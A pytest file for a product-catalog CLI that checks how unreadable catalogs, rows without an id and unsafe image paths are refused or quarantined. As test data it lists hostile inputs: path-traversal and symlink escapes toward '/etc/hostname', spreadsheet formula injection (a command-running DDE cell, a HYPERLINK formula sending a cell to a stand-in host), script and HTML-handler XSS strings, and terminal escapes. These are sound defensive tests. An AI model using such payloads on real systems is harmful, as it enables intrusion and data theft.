"""The ways in which a catalog can be bad (row E of what must be survived): each by name, by check and shard alike."""

import csv
import io
import json
import os
import sys
from dataclasses import dataclass
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from small_shop import SCHEMA_TOML, photo

from facetclip.cli import main
from facetclip.index import open_index

HEADER = "id,product,image,category,sleeve,colour"
GOOD = [f"{number},P{number // 2},{number}.jpg,shirt,long,red" for number in range(8)]
PARQUET = io.BytesIO()
pq.write_table(pa.table({"id": ["1"]}), PARQUET)

_opened: list[str] | None = None  # what files are opened, while that is watched


def _watch(event: str, arguments: tuple) -> None:
    if _opened is not None and event in ("open", "os.listdir", "os.scandir", "os.readlink"):
        _opened.append(os.fsdecode(arguments[0]) if isinstance(arguments[0], str | bytes | os.PathLike) else "")


sys.addaudithook(_watch)


@dataclass(frozen=True)
class Ran:
    """What a verb gave back and said."""

    code: int
    out: str
    err: str


@pytest.fixture
def shop(tmp_path, monkeypatch, capsys):
    """A shop with photos under `images`, a photo that is none of theirs, and a link to it."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "images" / "folder").mkdir(parents=True)
    for number in range(10):
        (tmp_path / "images" / f"{number}.jpg").write_bytes(photo(number))
    (tmp_path / "secret.jpg").write_bytes(photo(99))
    (tmp_path / "images" / "link.jpg").symlink_to(tmp_path / "secret.jpg")
    (tmp_path / "images" / "way").symlink_to(tmp_path)
    os.mkfifo(tmp_path / "images" / "pipe.jpg")
    (tmp_path / "schema.toml").write_text(SCHEMA_TOML)
    return Shop(tmp_path, capsys)


class Shop:
    def __init__(self, folder: Path, capsys) -> None:
        self.folder, self._capsys = folder, capsys

    def run(self, *words: str) -> Ran:
        code = main(words)
        said = self._capsys.readouterr()
        return Ran(code, said.out, said.err)

    def check(self, name: str) -> Ran:
        return self.run("check", name, "--schema", "schema.toml", "--images", "images", "--decode", "--max-bad", ".5",
                        "--out", "problems.csv")  # fmt: skip

    def shard(self, name: str) -> Ran:
        return self.run("shard", name, "--schema", "schema.toml", "--images", "images", "--out", "shards",
                        "--workers", "1", "--max-bad", ".5")  # fmt: skip

    def listed(self, name: str) -> list[dict[str, str]]:
        with (self.folder / name).open(newline="", encoding="utf-8") as table:
            return list(csv.DictReader(table))


def text(*rows: str, header: str = HEADER) -> bytes:
    return "\n".join([header, *GOOD, *rows, ""]).encode()


# name -> (file, its bytes, what is said)
UNREADABLE = {
    "empty": ("c.csv", b"", "the file is empty"),
    "a byte order mark alone": ("c.csv", b"\xef\xbb\xbf", "the file is empty"),
    "0 rows": ("c.csv", HEADER.encode() + b"\n", "0 rows"),
    "a NUL": ("c.csv", text("9,P9,9.jpg,shirt,lo\0ng,red"), "line 10: a NUL character"),
    "Windows text": ("c.csv", text("9,P9,gr\xfcn.jpg,,,").decode().encode("cp1252"), "line 10: not UTF-8 text"),
    "UTF-16 without a mark": ("c.csv", text().decode().encode("utf-16-le"), "line 1: a NUL character"),
    "UTF-16 cut in a letter": ("c.csv", text().decode().encode("utf-16")[:-1], "not UTF-16 text"),
    "a column twice": ("c.csv", text(header=HEADER.replace("sleeve", "category")), "column 'category' occurs twice"),
    "a column missing": ("c.csv", text(header=HEADER.replace("sleeve", "sleves")), "did you mean 'sleves'?"),
    "a quote unclosed": ("c.csv", text('9,P9,9.jpg,"shirt,long,red'), "row 10: unexpected end of data"),
    "a row too short": ("c.csv", text("9,P9,9.jpg"), "row 10: expected 6 cells as in the header, found 3"),
    "a row too long": ("c.csv", text("9,P9,9.jpg,a,b,c,d"), "row 10: expected 6 cells as in the header, found 7"),
    "a spreadsheet": ("c.xlsx", b"PK\x03\x04", "unknown kind of catalog '.xlsx'"),
    "no file": ("none.csv", None, "none.csv: no such catalog"),
    "JSON cut": ("c.jsonl", b'{"id": "1"}\n{"id": ', "row 2: not JSON"),
    "JSON that is a list": ("c.jsonl", b"[]\n", "row 1: expected an object"),
    "Parquet cut": ("c.parquet", PARQUET.getvalue()[:-9], "not a readable Parquet file"),
}
# name -> (a row, the code, what is said by shard)
FATAL = {
    "an id twice": ("3,P9,9.jpg,shirt,long,red", "duplicate_id", "row 10: item id '3' is already in row 5"),
    "an id missing": (",P9,9.jpg,shirt,long,red", "no_item_id", "row 10: column 'id' is empty"),
    "an id of blanks": ("\u00a0 ,P9,9.jpg,shirt,long,red", "no_item_id", "row 10: column 'id' is empty"),
    "a product missing": ("9,,9.jpg,shirt,long,red", "no_product", "row 10: column 'product' is empty"),
}
# name -> (what the image column says, the code)
IMAGES = {
    "no image named": ("", "no_reference"),
    "an image that is not there": ("none.jpg", "not_found"),
    "a folder": ("folder", "not_found"),
    "a pipe": ("pipe.jpg", "not_found"),
    "a path that climbs": ("../secret.jpg", "outside_root"),
    "a path that climbs later": ("folder/../../secret.jpg", "outside_root"),
    "a path that climbs in Windows' way": ("folder\\..\\..\\secret.jpg", "outside_root"),
    "an absolute path": ("/etc/hostname", "outside_root"),
    "a drive": ("C:\\secret.jpg", "outside_root"),
    "a link out of the root": ("link.jpg", "outside_root"),
    "a folder linked out of the root": ("way/secret.jpg", "outside_root"),
    "a URL": ("http://127.0.0.1:1/a.jpg", "url"),
    "a file URL": ("file:///etc/hostname", "url"),
    "a picture in a URL": ("data:image/png;base64,AAAA", "url"),
}
CELLS = {  # what a spreadsheet, a page or a terminal might take for its own
    "a formula": '=HYPERLINK("http://x/"&A1)',
    "a command": "=cmd|'/c calc'!A1",
    "a plus": "+1+cmd()",
    "a minus": "-1+cmd()",
    "an at": "@SUM(1)",
    "a tab before a formula": "\t=1+1",
    "a line feed before a formula": "\n=1+1",
    "a full-width formula": "＝1+1",
    "a script": "<script>alert(1)</script>",
    "a page's handler": '"><img src=x onerror=alert(1)>',
    "a terminal's escape": "\x1b[2J\x1b]0;x\x07",
    "text turned round": "\u202egpj.exe",
    "a megabyte": "x" * 1_000_000,
}


@pytest.mark.parametrize("kind", UNREADABLE)
def test_e_a_catalog_that_cannot_be_read_is_refused_in_one_line_by_every_verb(shop, kind):
    name, content, said = UNREADABLE[kind]
    if content is not None:
        (shop.folder / name).write_bytes(content)
    verbs = [shop.check(name), shop.shard(name)]
    if kind != "a column missing":  # for which the schema that is proposed would be another one
        verbs.append(shop.run("schema", name, "--out", "new.toml"))
    for ran in verbs:
        assert ran.code == 2
        assert said in ran.err
        assert len(ran.err.splitlines()) == (2 if kind == "a column missing" else 1), "then come those that there are"
    assert not (shop.folder / "problems.csv").exists()
    assert not (shop.folder / "shards").exists()


@pytest.mark.parametrize("kind", FATAL)
def test_e_a_row_without_identity_is_named_and_nothing_is_sharded(shop, kind):
    row, code, said = FATAL[kind]
    (shop.folder / "c.csv").write_bytes(text(row))
    checked, sharded = shop.check("c.csv"), shop.shard("c.csv")
    assert (checked.code, sharded.code) == (1, 2)
    assert [(line["row"], line["code"]) for line in shop.listed("problems.csv") if line["severity"] == "fatal"] == [
        ("10", code)
    ]
    assert said in sharded.err
    assert not (shop.folder / "shards").exists()


@pytest.mark.parametrize("kind", IMAGES)
def test_e_an_image_that_is_none_of_the_shops_is_named_by_its_row_and_never_opened(shop, kind):
    global _opened
    cell, code = IMAGES[kind]
    (shop.folder / "c.csv").write_bytes(text(f'9,P9,"{cell}",shirt,long,red'))
    _opened = []
    try:
        checked, sharded = shop.check("c.csv"), shop.shard("c.csv")
    finally:
        opened, _opened = _opened, None
    assert (checked.code, sharded.code) == (0, 0), sharded.err
    assert [(line["row"], line["code"]) for line in shop.listed("problems.csv") if line["severity"] == "error"] == [
        ("10", code)
    ]
    assert [(line["row"], line["code"]) for line in shop.listed("shards/quarantine.csv")] == [("10", code)]
    assert any(path.endswith("7.jpg") for path in opened)
    assert not any(path.endswith(("secret.jpg", "link.jpg", "hostname", "pipe.jpg")) for path in opened)


def test_e_a_nul_in_a_path_leads_nowhere(shop):
    rows: list[dict[str, str]] = [dict(zip(HEADER.split(","), row.split(","), strict=True)) for row in GOOD]
    rows.append(rows[0] | {"id": "9", "image": "../secret.jpg\0.jpg"})
    (shop.folder / "c.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    assert (shop.check("c.jsonl").code, shop.shard("c.jsonl").code) == (0, 0)
    assert [line["code"] for line in shop.listed("shards/quarantine.csv")] == ["outside_root"]


@pytest.mark.parametrize("kind", CELLS)
def test_e_no_cell_is_taken_for_more_than_text(shop, kind):
    cell = CELLS[kind]
    out = io.StringIO()
    csv.writer(out).writerow([cell, f"P{cell}", "none.jpg", cell, "long", "red"])
    csv.writer(out).writerow([f"{cell}2", cell, "9.jpg", "shirt", cell, "red"])
    (shop.folder / "c.csv").write_bytes(text() + out.getvalue().encode())
    checked, sharded = shop.check("c.csv"), shop.shard("c.csv")
    assert (checked.code, sharded.code) == (0, 0), sharded.err
    index = open_index(shop.folder / "shards")
    assert index.item_ids.to_pylist()[-1] == f"{cell}2", "what the shop wrote is kept"
    for name in ("problems.csv", "shards/quarantine.csv"):
        lines = shop.listed(name)
        assert any(line["row"] == "10" for line in lines)
        assert not any(
            value.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")) for line in lines for value in line.values()
        )
    said = checked.out + sharded.out + checked.err + sharded.err
    assert not set(said) & set("\x1b\x07\t\u202e")
    assert max(map(len, said.splitlines())) < 1000
    inspected = shop.run("inspect", "shards", "--verify")
    assert inspected.code == 0


def test_e_a_byte_order_mark_and_utf_16_are_no_fault(shop):
    contents = {"a.csv": text(), "b.csv": b"\xef\xbb\xbf" + text(), "c.csv": text().decode().encode("utf-16")}
    for name, content in contents.items():
        (shop.folder / name).write_bytes(content)
        assert shop.check(name).code == shop.shard(name).code == 0
        (shop.folder / "shards").rename(shop.folder / f"{name} shards")
    assert len({open_index(shop.folder / f"{name} shards").digest for name in contents}) == 1
